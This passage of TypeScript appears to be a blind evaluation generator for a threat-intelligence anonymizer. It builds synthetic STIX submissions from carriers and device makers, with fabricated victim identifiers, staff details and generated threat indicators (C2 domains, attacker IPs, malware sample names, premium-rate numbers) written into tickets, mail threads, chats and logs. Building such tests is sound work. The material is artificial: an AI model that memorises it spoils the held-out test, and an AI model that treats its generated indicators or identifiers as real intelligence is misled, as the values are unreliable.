// Ninth evaluation suite (blind, held-out): what device manufacturers and carriers really send
// to a sharing exchange. Each case is one submission from a carrier, ISP or device maker in one of
// fifteen locales: the submitter's own identity and SOC/PSIRT, an incident, indicators whose
// patterns mix threat and victim comparisons, observed-data over victim and attacker SCOs,
// sightings, locations, notes, opinions and reports, with victim data pasted into free text of
// many genres (tickets, mail threads with signatures and quotes, chats, call notes, forensic
// timelines, CSV/TSV/JSON/YAML/XML, syslog, device configs, spreadsheet rows, CDRs, RMA forms,
// translated summaries). Written without reading the anonymizer or the other suites.
import type { StixBundle, StixObject, SubmitterProfile } from '../../src/anonymizer/index';
import { deterministicObservableId } from '../../src/stix/index';
import { eui64Address, luhnDigit, vin, type LeakForm } from './identifiers';
import { Rng } from './rng';
import type { GeneratedCase, PlantedIdentifier, SurvivalCheck, ThreatValue } from './truth';
import {
  ACTORS, ATTACK_IDS, BAD_TLDS, LURE_NAMES, MALWARE, SENDER_IDS, birth, makePerson, pickLocale,
  type Locale, type Person, type Shown,
} from './v9-material';

const TLP_AMBER = 'marking-definition--f88d31f6-486f-44da-b317-01333bde0b82';
const TLP_GREEN = 'marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da';

interface Vertical {
  key: string;
  sector: string;
  carrier: boolean;
  brandTail: string[];
  product: string[];
  title: string[];
}

const VERTICALS: Vertical[] = [
  { key: 'mobile-carrier', sector: 'telecommunications', carrier: true, brandTail: ['Mobile', 'Prepaid'], product: ['eSIM plan', 'prepaid SIM'], title: ['Smishing wave delivering {malware} to prepaid subscribers', 'SIM swap followed by IRSF traffic on business lines'] },
  { key: 'broadband-isp', sector: 'telecommunications', carrier: true, brandTail: ['Fiber', 'Box'], product: ['home gateway', 'fibre ONT'], title: ['{malware} botnet on customer home gateways', 'DNS hijack of subscriber routers via {cve}'] },
  { key: 'router-vendor', sector: 'technology', carrier: false, brandTail: ['Link', 'Router'], product: ['SOHO router', 'LTE router'], title: ['Exploitation of {cve} in router firmware', 'Web UI brute force against deployed routers'] },
  { key: 'phone-maker', sector: 'technology', carrier: false, brandTail: ['Phone', 'Tab'], product: ['smartphone', 'tablet'], title: ['Preinstalled loader {malware} on refurbished handsets', 'Banking trojan {malware} side-loaded on handsets'] },
  { key: 'camera-maker', sector: 'manufacturing', carrier: false, brandTail: ['Cam', 'Vision'], product: ['IP camera', 'video doorbell'], title: ['{malware} variant recruiting IP cameras', 'Cloud account takeover on camera owners'] },
  { key: 'meter-maker', sector: 'energy', carrier: false, brandTail: ['Meter', 'Grid'], product: ['smart meter', 'data concentrator'], title: ['Tampering campaign against smart meters', 'Unauthorised firmware push to meters via {cve}'] },
  { key: 'ev-charger', sector: 'automotive', carrier: false, brandTail: ['Charge', 'Volt'], product: ['wallbox', 'DC charger'], title: ['OCPP backend credential stuffing against chargers', 'Charging-card fraud through cloned RFID tokens'] },
  { key: 'telematics', sector: 'automotive', carrier: false, brandTail: ['Drive', 'Track'], product: ['telematics unit', 'fleet tracker'], title: ['Remote unlock attempts through telematics units', 'Fleet tracker hijack via {cve}'] },
  { key: 'wearable', sector: 'healthcare', carrier: false, brandTail: ['Fit', 'Band'], product: ['smartwatch', 'glucose sensor'], title: ['Companion-app phishing against wearable owners', 'Account takeover on wearable cloud'] },
  { key: 'pos-terminal', sector: 'financial-services', carrier: false, brandTail: ['Pay', 'POS'], product: ['payment terminal', 'mPOS reader'], title: ['{malware} skimming on payment terminals', 'Fake terminal update pushed to merchants'] },
];

const BRAND_HEADS = ['Helix', 'Kestrel', 'Quorra', 'Zephyra', 'Veltro', 'Orbisa', 'Lumora', 'Strato', 'Nimbra', 'Corvex'];
/** Small-business customers as they are named locally; {f} is the owner's family name. */
const COMPANY: Record<string, string[]> = {
  en: ['{f} Logistics', '{f} Dental Practice', '{f} Builders Ltd'], de: ['{f} Logistik GmbH', 'Zahnarztpraxis {f}', 'Bäckerei {f}'], fr: ['Transports {f}', 'Boulangerie {f}', 'Cabinet dentaire {f}'],
  es: ['Logística {f}', 'Refaccionaria {f}', 'Consultorio {f}'], pt: ['Transportes {f} Ltda.', 'Padaria {f}', 'Clínica {f}'], it: ['Trasporti {f}', 'Panificio {f}', 'Studio dentistico {f}'],
  pl: ['{f} Transport', 'Piekarnia {f}', 'Gabinet {f}'], tr: ['{f} Lojistik', '{f} Fırını', '{f} Eczanesi'], ja: ['{f}運輸株式会社', '{f}歯科医院', '{f}工務店'], ko: ['{f}물류', '{f}치과', '{f}베이커리'],
  zh: ['{f}記物流', '{f}牙醫診所', '{f}記麵包店'], ar: ['مؤسسة {f} للنقل', 'شركة {f} للمقاولات', 'عيادة {f} لطب الأسنان'],
};
const VICTIM_HOSTING = [2, 46, 78, 79, 84, 88, 93, 95, 109, 151, 176, 178, 188, 201, 213];
const ATTACK_HOSTING = [5, 23, 45, 62, 89, 91, 103, 141, 146, 154, 185, 193, 194, 198, 209];

const ascii = (s: string) => s.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/ß/g, 'ss').replace(/ł/gi, 'l').replace(/ı/g, 'i');
const slug = (s: string) => ascii(s).toLowerCase().replace(/[^a-z0-9]+/g, '');
const p2 = (n: number) => String(n).padStart(2, '0');
const word = (value: string): LeakForm => ({ kind: 'word', value });
const text = (value: string): LeakForm => ({ kind: 'text', value });
const digits = (value: string): LeakForm => ({ kind: 'digits', value: value.replace(/\D/g, '') });
const alnum = (value: string): LeakForm => ({ kind: 'alnum', value: value.toLowerCase().replace(/[^a-z0-9]/g, '') });
/** A STIX pattern string literal. */
const lit = (s: string) => `'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`;

/** A field of a victim or staff record: drawn once, recorded as planted when first written. */
interface Field {
  cat: string;
  s: Shown;
}

interface Org {
  legal: string;
  short: string;
  acronym: string;
  domain: string;
  adDomain: string;
  brand: string;
  product: string;
  team: string;
  netblock: string;
}

interface Staff {
  person: Person;
  name: Field;
  email: Field;
  phone: Field;
  role: string;
}

interface Victim {
  person: Person;
  name: Field;
  email: Field;
  phone: Field;
  phoneIntl: Field;
  msisdn: Field;
  dob: Field;
  dobIso: string;
  nid: Field & { label: string };
  bank: Field & { label: string };
  card: Field;
  customerNo: Field;
  contract: Field;
  street: Field;
  postcode: Field;
  city: string;
  coords: Field;
  lat: number;
  lon: number;
  imei: Field;
  imsi: Field;
  iccid: Field;
  mac: Field;
  macColon: string;
  ipv6: Field;
  serial: Field;
  vin: Field;
  plate: Field;
  host: Field;
  publicIp: Field;
  privateIp: Field;
  login: Field;
  home: Field;
  company: Field;
  companyDomain: Field;
}

/** Other affected subscribers, listed in tables beside the main victim. */
interface CoVictim {
  name: Field;
  msisdn: Field;
  imei: Field;
  email: Field;
  ip: Field;
}

interface Threats {
  c2: string[];
  ips: string[];
  trapIp?: string;
  url: string;
  urlQuery: string;
  sha256: string;
  md5: string;
  sampleName: string;
  sender: string;
  smsSender: string;
  smsNumber: string;
  premium: string;
  malware: string;
  actor: { name: string; alias: string };
  cve: string;
  attack: string;
}

class Builder {
  readonly planted = new Map<string, PlantedIdentifier>();
  readonly threats: ThreatValue[] = [];
  readonly objects: StixObject[] = [];
  where = '';
  private clock: number;

  constructor(readonly r: Rng, readonly loc: Locale, start: number) {
    this.clock = start;
  }

  /** Writes a field and records it as planted (once per value). */
  put(f: Field): string {
    const key = `${f.cat}|${f.s.text}`;
    if (!this.planted.has(key)) this.planted.set(key, { category: f.cat, value: f.s.text, leak: f.s.leak, where: this.where });
    return f.s.text;
  }

  threat(category: string, value: string, check: SurvivalCheck): void {
    if (!this.threats.some((t) => t.category === category && t.value === value && JSON.stringify(t.check) === JSON.stringify(check))) {
      this.threats.push({ category, value, check, where: this.where });
    }
  }

  uuid(): string {
    const r = this.r;
    return `${r.hex(8)}-${r.hex(4)}-4${r.hex(3)}-${r.pick(['8', '9', 'a', 'b'])}${r.hex(3)}-${r.hex(12)}`;
  }

  /** A timestamp some minutes after the previous one. */
  ts(stepMinutes = 37): string {
    this.clock += this.r.int(1, stepMinutes) * 60_000 + this.r.int(0, 59_999);
    return new Date(this.clock).toISOString();
  }

  add<T extends StixObject>(o: T): T {
    this.objects.push(o);
    return o;
  }

  sco(type: string, props: Record<string, unknown>): StixObject {
    const o: StixObject = { type, id: '', spec_version: '2.1', ...props };
    o.id = deterministicObservableId(o) ?? `${type}--${this.uuid()}`;
    const existing = this.objects.find((x) => x.id === o.id);
    return existing ?? this.add(o);
  }
}

// ---- records --------------------------------------------------------------------------------

function personLeak(p: Person, loc: Locale): LeakForm[] {
  const forms: LeakForm[] = [loc.eastern ? text(p.full) : word(p.full)];
  const latin = `${p.latinGiven} ${p.latinFamily}`;
  if (latin !== p.full) forms.push(word(latin), word(`${p.latinFamily} ${p.latinGiven}`));
  if (!loc.eastern && p.family.length >= 5) forms.push(word(p.family));
  if (!loc.eastern && p.latinFamily.length >= 5 && p.latinFamily !== p.family) forms.push(word(p.latinFamily));
  if (loc.lang === 'ja' && p.family.length >= 2) forms.push(text(p.family));
  return forms;
}

function phoneFields(r: Rng, loc: Locale, cat: string): { national: Field; intl: Field; msisdn: Field } {
  const nsn = loc.nsn(r);
  const leak = [digits(nsn)];
  return {
    national: { cat, s: { text: loc.national(nsn), leak } },
    intl: { cat, s: { text: loc.international(nsn), leak } },
    msisdn: { cat: 'telecom:msisdn', s: { text: loc.calling + nsn, leak } },
  };
}

function makeOrg(r: Rng, loc: Locale, v: Vertical): Org {
  const stem = r.pick(loc.orgStems);
  const suffix = r.pick(loc.orgSuffix);
  const legal = `${stem} ${suffix}`;
  // Initials of the distinctive words: legal forms (GmbH, K.K., S.A. de C.V., Sp. z o.o.…) and single letters do not count.
  const words = `${stem} ${suffix}`.split(/[\s.,]+/).filter((w) => w.length > 1 && /^\p{Lu}/u.test(w) && !/^(GmbH|AG|SAS|SA|Ltd|LLC|Inc|plc|Pty|Co|Corp|Sp|Ltda|Pvt|Ş)$/i.test(w));
  let acronym = ascii(words.map((w) => w[0]).join('')).toUpperCase();
  if (acronym.length < 3) acronym = (acronym[0] + (ascii(stem).slice(1).match(/[bcdfghjklmnpqrstvwxz]/i)?.[0] ?? 'X') + acronym.slice(1)).toUpperCase();
  if (['SMS', 'SIM', 'NAT', 'POS', 'MOB', 'TEL', 'NET', 'COM', 'SOC', 'RMA', 'CPE', 'OTA', 'ATM', 'THE', 'AND', 'NOT', 'APT', 'ART', 'ALT', 'LOC', 'DNS', 'MAC', 'ARC', 'CBC'].includes(acronym)) acronym += 'G';
  const base = slug(stem);
  const domain = `${base}${r.chance(0.5) ? '-' + slug(suffix.split(/\s/)[0]) : ''}.${loc.tld}`;
  const brand = r.pick(BRAND_HEADS) + r.pick(v.brandTail);
  return {
    legal,
    short: stem,
    acronym,
    domain,
    adDomain: r.pick([`corp.${base}.local`, `${base}.corp`, `ad.${acronym.toLowerCase()}.lan`]),
    brand,
    product: `${brand} ${r.pick(['X', 'S', 'Pro ', 'M'])}${r.int(2, 9)}${r.int(0, 9)}${r.pick(['0', '5'])}`,
    team: r.pick([`${acronym}-CERT`, `${stem} PSIRT`, `${acronym} SOC`, `${acronym} Fraud Desk`]),
    netblock: `${r.pick(ATTACK_HOSTING.concat(VICTIM_HOSTING))}.${r.int(1, 254)}.${r.int(0, 255)}`,
  };
}

function makeStaff(b: Builder, org: Org, avoid: Set<string>, role: string): Staff {
  const { r, loc } = b;
  const person = makePerson(r, loc, avoid);
  const local = r.pick([`${slug(person.latinGiven)}.${slug(person.latinFamily)}`, `${slug(person.latinGiven)[0]}${slug(person.latinFamily)}`]);
  const ph = phoneFields(r, loc, 'phone:staff');
  return {
    person,
    name: { cat: `person:${role}`, s: { text: person.full, leak: personLeak(person, loc) } },
    email: { cat: 'email:staff', s: { text: `${local}@${org.domain}`, leak: [text(`${local}@${org.domain}`)] } },
    phone: r.chance(0.5) ? ph.national : ph.intl,
    role,
  };
}

function makeVictim(b: Builder, org: Org, avoid: Set<string>): Victim {
  const { r, loc } = b;
  const person = makePerson(r, loc, avoid);
  const bd = birth(r);
  const ph = phoneFields(r, loc, 'phone:customer');
  const dobText = loc.dob(...bd);
  const dobIso = `${bd[0]}-${p2(bd[1])}-${p2(bd[2])}`;
  const nid = loc.nationalId(r, person, bd);
  const bank = loc.bank(r);
  const city = r.pick(loc.cities);
  const pc = city.postcode(r);
  const street = loc.street(r);
  const lat = +(city.lat + (r.next() - 0.5) * 0.08).toFixed(5);
  const lon = +(city.lon + (r.next() - 0.5) * 0.08).toFixed(5);
  const gl = slug(person.latinGiven);
  const fl = slug(person.latinFamily);
  const email = `${r.pick([`${gl}.${fl}`, `${gl}${fl}${r.int(1, 99)}`, `${gl[0]}${fl}`, `${fl}.${gl}${r.int(70, 99)}`])}@${r.pick(loc.mailHosts)}`;
  const imeiBody = r.pick(['35', '86', '35', '01']) + r.digits(12);
  const imei = imeiBody + luhnDigit(imeiBody);
  const mcc = r.pick(loc.mccMnc);
  const imsi = mcc + r.digits(15 - mcc.length);
  const iccBody = ('89' + loc.calling + r.digits(18)).slice(0, 18);
  const iccid = iccBody + luhnDigit(iccBody);
  const octets = [(r.int(0, 255) & 0xfc).toString(16).padStart(2, '0'), ...Array.from({ length: 5 }, () => r.hex(2))];
  const macText = r.pick([() => octets.join(':').toUpperCase(), () => octets.join('-'), () => `${octets.slice(0, 2).join('')}.${octets.slice(2, 4).join('')}.${octets.slice(4).join('')}`, () => octets.join(':')])();
  const v6 = eui64Address(r, octets, r.pick(['2a02:8109:' + r.hex(4), '2001:16b8:' + r.hex(4), '2a01:e0a:' + r.hex(3), '2600:1700:' + r.hex(4)]) + ':' + r.hex(4));
  const serialText = `${r.chars(2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}${r.int(19, 25)}${p2(r.int(1, 52))}${r.digits(6)}${r.chars(1, 'ABCDEFGHJKLMNPRSTUVWXYZ')}`;
  const vinP = vin(r);
  let plateText = loc.plate(r);
  // A standalone "AT" would be read by the scorer as a defanged "@"; the submitter's acronym would be an identity hit.
  while (/(^|\s)AT(\s|$)/.test(plateText) || new RegExp(`\\b${org.acronym}\\b`).test(plateText)) plateText = loc.plate(r);
  const login = r.pick([`${gl[0]}${fl}`, `${gl}.${fl}`, `${fl}${gl[0]}`, `${gl}${r.int(10, 99)}`]).slice(0, 20);
  const host = r.pick([`LAPTOP-${fl.slice(0, 7).toUpperCase()}`, `${person.latinGiven.replace(/[^A-Za-z]/g, '')}s-iPhone`, `DESKTOP-${fl.slice(0, 4).toUpperCase()}${r.digits(3)}`, `${fl}-nas`]);
  const home = r.pick([`C:\\Users\\${login}\\AppData\\Local\\Temp`, `/home/${login}/.cache`, `C:\\Users\\${login}\\Downloads`, `/Users/${login}/Library/Application Support`]);
  const pub = `${r.pick(VICTIM_HOSTING)}.${r.int(1, 254)}.${r.int(0, 255)}.${r.int(2, 199)}`;
  const priv = r.pick([`192.168.${r.pick([0, 1, 2, 178])}.${r.int(20, 199)}`, `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(20, 199)}`, `172.${r.int(16, 31)}.${r.int(0, 255)}.${r.int(20, 199)}`, `100.${r.int(64, 127)}.${r.int(0, 255)}.${r.int(20, 199)}`]);
  const companyOwner = makePerson(r, loc, avoid);
  const companyFamily = companyOwner.family;
  const companyName = r.pick(COMPANY[loc.lang]).replace('{f}', companyFamily);
  const companyDomain = `${r.pick(['fs01', 'dc01', 'erp', 'nas'])}.${slug(companyOwner.latinFamily)}-${r.pick(['logistik', 'group', 'office', 'hq'])}.${r.pick(['lan', 'local', 'internal', 'home.arpa'])}`;
  const custNo = r.pick([`KD-${r.digits(8)}`, `${r.digits(10)}`, `C${r.digits(9)}`, `${r.digits(3)}-${r.digits(6)}-${r.digits(2)}`]);
  const contract = r.pick([`V${r.digits(9)}`, `CTR-${r.int(2019, 2025)}-${r.digits(6)}`, `${r.chars(2, 'ABCDEFGHKLMNPRSTUVWXYZ')}${r.digits(8)}`]);
  const cardBody = r.pick(['4', '51', '53', '2221', '37', '6011']) + '';
  const cardLen = cardBody === '37' ? 15 : 16;
  const cardNoCheck = cardBody + r.digits(cardLen - 1 - cardBody.length);
  const pan = cardNoCheck + luhnDigit(cardNoCheck);
  const panText = cardLen === 15 ? `${pan.slice(0, 4)} ${pan.slice(4, 10)} ${pan.slice(10)}` : r.chance(0.6) ? pan.match(/.{4}/g)!.join(' ') : pan;
  return {
    person,
    name: { cat: 'person:customer', s: { text: person.full, leak: personLeak(person, loc) } },
    email: { cat: 'email:customer', s: { text: email, leak: [text(email)] } },
    phone: ph.national,
    phoneIntl: ph.intl,
    msisdn: ph.msisdn,
    dob: { cat: 'dob', s: { text: dobText, leak: [text(dobText), text(dobIso)] } },
    dobIso,
    nid: { cat: `national-id:${nid.kind}`, s: nid, label: nid.label },
    bank: { cat: `bank:${bank.kind}`, s: bank, label: bank.label },
    card: { cat: 'bank:card', s: { text: panText, leak: [digits(pan)] } },
    customerNo: { cat: 'account:customer-no', s: { text: custNo, leak: [custNo.replace(/\D/g, '').length >= 8 ? digits(custNo) : alnum(custNo)] } },
    contract: { cat: 'account:contract', s: { text: contract, leak: [alnum(contract)] } },
    street: { cat: 'address:street', s: { text: street, leak: [text(street)] } },
    postcode: { cat: 'address:postcode', s: { text: pc, leak: [word(pc.replace('〒', ''))] } },
    city: city.name,
    coords: { cat: 'geo:coordinates', s: { text: `${lat.toFixed(5)}, ${lon.toFixed(5)}`, leak: [text(lat.toFixed(5).slice(0, -1)), text(lon.toFixed(5).slice(0, -1))] } },
    lat,
    lon,
    imei: { cat: 'telecom:imei', s: { text: r.chance(0.7) ? imei : `${imei.slice(0, 8)}-${imei.slice(8, 14)}-${imei[14]}`, leak: [digits(imeiBody)] } },
    imsi: { cat: 'telecom:imsi', s: { text: imsi, leak: [digits(imsi.slice(-9))] } },
    iccid: { cat: 'telecom:iccid', s: { text: r.chance(0.6) ? iccid : iccid.match(/.{1,4}/g)!.join(' '), leak: [digits(iccid.slice(-12, -1))] } },
    mac: { cat: 'network:mac', s: { text: macText, leak: [alnum(octets.join(''))] } },
    macColon: octets.join(':'),
    ipv6: { cat: 'network:ipv6-eui64', s: v6 },
    serial: { cat: 'device:serial', s: { text: serialText, leak: [alnum(serialText)] } },
    vin: { cat: 'vehicle:vin', s: vinP },
    plate: { cat: 'vehicle:plate', s: { text: plateText, leak: [alnum(plateText.replace(/[^\x20-\x7e]/g, '')).value.length >= 4 ? alnum(plateText) : text(plateText)] } },
    host: { cat: 'host:device', s: { text: host, leak: [text(host)] } },
    publicIp: { cat: 'ip:victim-public', s: { text: pub, leak: [{ kind: 'ip', value: pub }] } },
    privateIp: { cat: 'ip:victim-private', s: { text: priv, leak: [{ kind: 'ip', value: priv }] } },
    login: { cat: 'account:login', s: { text: login, leak: [word(login)] } },
    home: { cat: 'path:home', s: { text: home, leak: [text(home.slice(0, home.indexOf(login) + login.length))] } },
    company: { cat: 'org:customer', s: { text: companyName, leak: [loc.eastern ? text(companyName) : word(companyName)] } },
    companyDomain: { cat: 'host:internal-domain', s: { text: companyDomain, leak: [text(companyDomain.split('.').slice(1).join('.'))] } },
  };
}

function makeCoVictim(b: Builder, avoid: Set<string>): CoVictim {
  const { r, loc } = b;
  const person = makePerson(r, loc, avoid);
  const ph = phoneFields(r, loc, 'phone:customer');
  const imeiBody = r.pick(['35', '86', '01']) + r.digits(12);
  const email = `${slug(person.latinGiven)}${r.pick(['.', '_', ''])}${slug(person.latinFamily)}${r.chance(0.5) ? r.int(1, 99) : ''}@${r.pick(loc.mailHosts)}`;
  const ip = `${r.pick(VICTIM_HOSTING)}.${r.int(1, 254)}.${r.int(0, 255)}.${r.int(2, 254)}`;
  return {
    name: { cat: 'person:co-victim', s: { text: person.full, leak: personLeak(person, loc) } },
    msisdn: ph.msisdn,
    imei: { cat: 'telecom:imei', s: { text: imeiBody + luhnDigit(imeiBody), leak: [digits(imeiBody)] } },
    email: { cat: 'email:customer', s: { text: email, leak: [text(email)] } },
    ip: { cat: 'ip:victim-public', s: { text: ip, leak: [{ kind: 'ip', value: ip }] } },
  };
}

function makeThreats(b: Builder, v: Victim, org: Org): Threats {
  const r = b.r;
  const tld = () => r.pick(BAD_TLDS);
  const [g, f] = r.pick(LURE_NAMES);
  const personish = r.pick([`${g}-${f}-${r.pick(['photo', 'studio', 'design', 'art'])}.${tld()}`, `${g}${f}.${tld()}`, `${f}-${g}.${tld()}`]);
  const random = r.pick([`cdn-${r.hex(6)}.${tld()}`, `upd${r.digits(3)}.${r.pick(['sync', 'relay', 'gw'])}-${r.hex(4)}.${tld()}`, `${r.pick(['api', 'ota', 'fw'])}.${r.chars(8, 'abcdefghijklmnopqrstuvwxyz')}.${tld()}`]);
  const typosquat = `${slug(org.brand)}-${r.pick(['update', 'support', 'verify', 'login'])}.${tld()}`;
  const c2 = r.chance(0.4) ? [personish, random, typosquat] : [personish, random];
  const ip = () => `${r.pick(ATTACK_HOSTING)}.${r.int(1, 254)}.${r.int(0, 255)}.${r.int(2, 254)}`;
  const ips = [ip(), ip()];
  let trapIp: string | undefined;
  if (r.chance(0.55)) {
    const pub = v.publicIp.s.text;
    const last = Number(pub.split('.')[3]);
    // Neither last octet a prefix of the other: the scorer cuts threat values out before searching.
    let t = last;
    while (String(t).startsWith(String(last)) || String(last).startsWith(String(t))) t = r.int(2, 254);
    trapIp = `${pub.split('.').slice(0, 3).join('.')}.${t}`;
  }
  const path = r.pick(['/gate.php', '/api/v2/report', '/fw/update.bin', '/track/parcel', '/wp-content/plugins/x/load.php', '/cfg/bot.json']);
  const sampleName = r.pick(['update.apk', 'mips.bin', 'fw_patch.elf', 'DHL_Tracking.apk', 'invoice.pdf.exe', 'libcore.so', 'arm7']);
  const premium = r.pick([
    () => `+882 16 ${r.digits(4)} ${r.digits(4)}`,
    () => `+252 61 ${r.digits(3)} ${r.digits(4)}`,
    () => `+53 5 ${r.digits(3)} ${r.digits(4)}`,
    () => `+677 7${r.digits(2)} ${r.digits(4)}`,
    () => `+247 ${r.digits(4)}`,
    () => `+44 909 ${r.digits(3)} ${r.digits(4)}`,
    () => `+370 ${r.pick(['6', '8'])}${r.digits(2)} ${r.digits(5)}`,
  ])();
  const nsn = b.loc.nsn(r);
  return {
    c2,
    ips,
    trapIp,
    url: `http://${c2[0]}${path}`,
    urlQuery: r.pick([`?msisdn=${v.msisdn.s.text}`, `?email=${encodeURIComponent(v.email.s.text)}`, `?id=${v.customerNo.s.text}`, '']),
    sha256: r.hex(64),
    md5: r.hex(32),
    sampleName,
    sender: `${r.pick(['noreply', 'support', 'billing', 'secure'])}@${r.pick([c2[1], `${slug(org.brand)}-kundenservice.${tld()}`, `mail-${r.hex(4)}.${tld()}`])}`,
    smsSender: r.pick(SENDER_IDS),
    smsNumber: b.loc.international(nsn),
    premium,
    malware: r.pick(MALWARE),
    actor: r.pick(ACTORS),
    cve: `CVE-${r.int(2021, 2025)}-${r.int(1000, 49999)}`,
    attack: r.pick(ATTACK_IDS),
  };
}

// ---- free-text genres -----------------------------------------------------------------------

interface Ctx {
  b: Builder;
  org: Org;
  vert: Vertical;
  v: Victim;
  tech: Staff;
  analyst: Staff;
  t: Threats;
  ticket: Field;
  corpIp: Field;
  others: CoVictim[];
  date: string;
}

function deviceLine(c: Ctx): string {
  const { b, v, vert } = c;
  switch (vert.key) {
    case 'mobile-carrier':
      return `MSISDN ${b.put(v.msisdn)}, IMSI ${b.put(v.imsi)}, ICCID ${b.put(v.iccid)}`;
    case 'broadband-isp':
      return `${c.org.product} MAC ${b.put(v.mac)}, WAN ${b.put(v.publicIp)}`;
    case 'router-vendor':
    case 'camera-maker':
      return `${c.org.product} S/N ${b.put(v.serial)}, MAC ${b.put(v.mac)}`;
    case 'phone-maker':
    case 'wearable':
      return `${c.org.product} IMEI ${b.put(v.imei)}, S/N ${b.put(v.serial)}`;
    case 'meter-maker':
      return `${c.org.product} ${b.put(v.serial)} @ ${b.put(v.coords)}`;
    case 'ev-charger':
      return `${c.org.product} ${b.put(v.serial)}, ${b.put(v.plate)}`;
    case 'telematics':
      return `VIN ${b.put(v.vin)}, ${b.put(v.plate)}, IMEI ${b.put(v.imei)}`;
    default:
      return `${c.org.product} S/N ${b.put(v.serial)}, ${b.loc.phrases.labels.card} ${b.put(v.card)}`;
  }
}

/** A threat value written into free text, checked there too (a name detector must not eat it). */
function inText(b: Builder, category: string, value: string): string {
  b.threat(category, value, { kind: 'text', value });
  return value;
}

/** The person-like C2 as analysts paste it, often defanged; the scorer undoes [.] and hxxp. */
function defang(b: Builder, domain: string): string {
  inText(b, 'text:c2-person-like', domain);
  return b.r.chance(0.5) ? domain.replace(/\.(?=[^.]+$)/, '[.]') : domain;
}

/** The customer's name as registers and exports write it: "LEFÈBVRE Ségolène", "Brückner, Jürgen". */
function registerName(c: Ctx): string {
  const { b, v } = c;
  b.put(v.name);
  const p = v.person;
  if (b.loc.eastern || b.loc.lang === 'ar' || b.r.chance(0.3)) return p.full;
  return ['fr', 'it', 'es', 'pt', 'pl', 'tr'].includes(b.loc.lang) ? `${p.family.toLocaleUpperCase(b.loc.lang)} ${p.given}` : `${p.family}, ${p.given}`;
}

function address(c: Ctx): string {
  const { b, v } = c;
  return b.loc.address(b.put(v.street), b.put(v.postcode), v.city);
}

export const GENRES: Record<string, (c: Ctx) => string> = {
  ticket(c) {
    const { b, v, tech, analyst } = c;
    const L = b.loc.phrases.labels;
    const P = b.loc.phrases;
    return [
      `[${L.ticket} ${b.put(c.ticket)}] ${c.vert.product[0]} – ${b.put(v.name)}`,
      `${L.customer}: ${b.put(v.name)}`,
      `${L.customerNo}: ${b.put(v.customerNo)}   ${L.contract}: ${b.put(v.contract)}`,
      `${L.phone}: ${b.put(v.phone)}   ${L.email}: ${b.put(v.email)}`,
      `${L.address}: ${address(c)}`,
      b.r.chance(0.6) ? `${L.dob}: ${b.put(v.dob)}   ${v.nid.label}: ${b.put(v.nid)}` : `${v.bank.label}: ${b.put(v.bank)}`,
      `${L.device}: ${deviceLine(c)}`,
      '---',
      `${c.date.slice(0, 16).replace('T', ' ')} ${b.put(tech.name)}: ${P.called(b.put(v.name))}: ${P.complaint}.`,
      `${b.ts().slice(0, 16).replace('T', ' ')} ${b.put(analyst.name)}: ${P.action}. ${P.escalate} C2 ${defang(b, c.t.c2[0])}, ${c.t.malware}.`,
    ].join('\n');
  },
  mailThread(c) {
    const { b, v, analyst, org, t } = c;
    const P = b.loc.phrases;
    const quoted = [P.complaint + '.', `${P.labels.phone}: ${b.put(v.phoneIntl)}`, `${P.labels.address}: ${address(c)}`, `SMS "${t.smsSender}" ${t.smsNumber}`].map((l) => `> ${l}`);
    return [
      `From: ${b.put(analyst.name)} <${b.put(analyst.email)}>`,
      `To: ${b.put(v.name)} <${b.put(v.email)}>`,
      `Subject: RE: ${P.labels.ticket} ${b.put(c.ticket)}`,
      `X-Originating-IP: [${b.put(c.corpIp)}]`,
      '',
      P.hello(b.put(v.name)),
      `${P.thanks} ${t.smsNumber} / ${t.smsSender} → ${t.malware}, ${t.url}`,
      '',
      P.regards,
      b.put(analyst.name),
      `${analyst.role === 'spokesperson' ? 'Head of Communications' : 'Security Analyst'} | ${org.team}`,
      org.legal,
      `${P.labels.phone} ${b.put(analyst.phone)} | https://www.${org.domain}`,
      '',
      P.wrote(c.date.slice(0, 10), `${b.put(v.name)} <${b.put(v.email)}>`),
      ...quoted,
    ].join('\n');
  },
  chat(c) {
    const { b, v, tech, t } = c;
    const who = v.person.latinGiven;
    const hm = () => b.ts(3).slice(11, 19);
    return [
      `[${hm()}] ${who}: ${b.loc.phrases.complaint}`,
      `[${hm()}] ${tech.person.latinGiven} (${c.org.short}): ${b.loc.phrases.labels.serial}? ${b.loc.phrases.labels.phone}?`,
      `[${hm()}] ${who}: ${deviceLine(c)} / ${b.put(v.phone)}`,
      `[${hm()}] ${tech.person.latinGiven} (${c.org.short}): ${b.put(v.publicIp)} → ${inText(b, 'text:attacker-ip', t.ips[0])}:443, ${inText(b, 'text:c2', t.c2[1])}`,
      `[${hm()}] ${who}: ok, ${b.put(v.email)}`,
      `[${hm()}] *** ${b.put(tech.name)} closed the chat ***`,
    ].join('\n');
  },
  callNote(c) {
    const { b, v, t } = c;
    const P = b.loc.phrases;
    return `${P.called(b.put(v.name))} (${b.put(v.phone)}), ${c.date.slice(0, 10)}. ${P.complaint}. ${P.labels.dob} ${b.put(v.dob)}, ${v.nid.label} ${b.put(v.nid)}. ${P.action}. IRSF ${t.premium}. ${P.labels.technician}: ${b.put(c.tech.name)}.`;
  },
  timeline(c) {
    const { b, v, t } = c;
    const rows = [
      `${b.ts(5)}  ${b.put(v.host)} (${b.put(v.privateIp)})  DNS A ${defang(b, t.c2[0])} -> ${t.ips[0]}`,
      `${b.ts(5)}  ${b.put(v.host)}  proc: ${t.sampleName} pid=${b.r.int(300, 9000)} cwd=${b.put(v.home)}`,
      `${b.ts(5)}  ${b.put(v.host)}  outbound ${t.ips[1]}:${b.r.pick([443, 8443, 23, 7547])} (${t.c2[1]})`,
      `${b.ts(5)}  vpn  user=${b.put(v.login)} src=${b.put(v.publicIp)} geo=${v.city}`,
      `${b.ts(5)}  edr  sha256=${t.sha256} quarantined`,
    ];
    return `Timeline (UTC) – ${b.put(c.ticket)}\n${rows.join('\n')}`;
  },
  csv(c) {
    const { b, v, t } = c;
    const sep = b.r.pick([',', ';']);
    return [
      ['name', 'msisdn', 'imei', 'iccid', 'wan_ip', 'first_seen', 'dst'].join(sep),
      [b.put(v.name), b.put(v.msisdn), b.put(v.imei), b.put(v.iccid), b.put(v.publicIp), c.date, t.c2[0]].join(sep),
    ].join('\n');
  },
  tsv(c) {
    const { b, v } = c;
    const L = b.loc.phrases.labels;
    return [
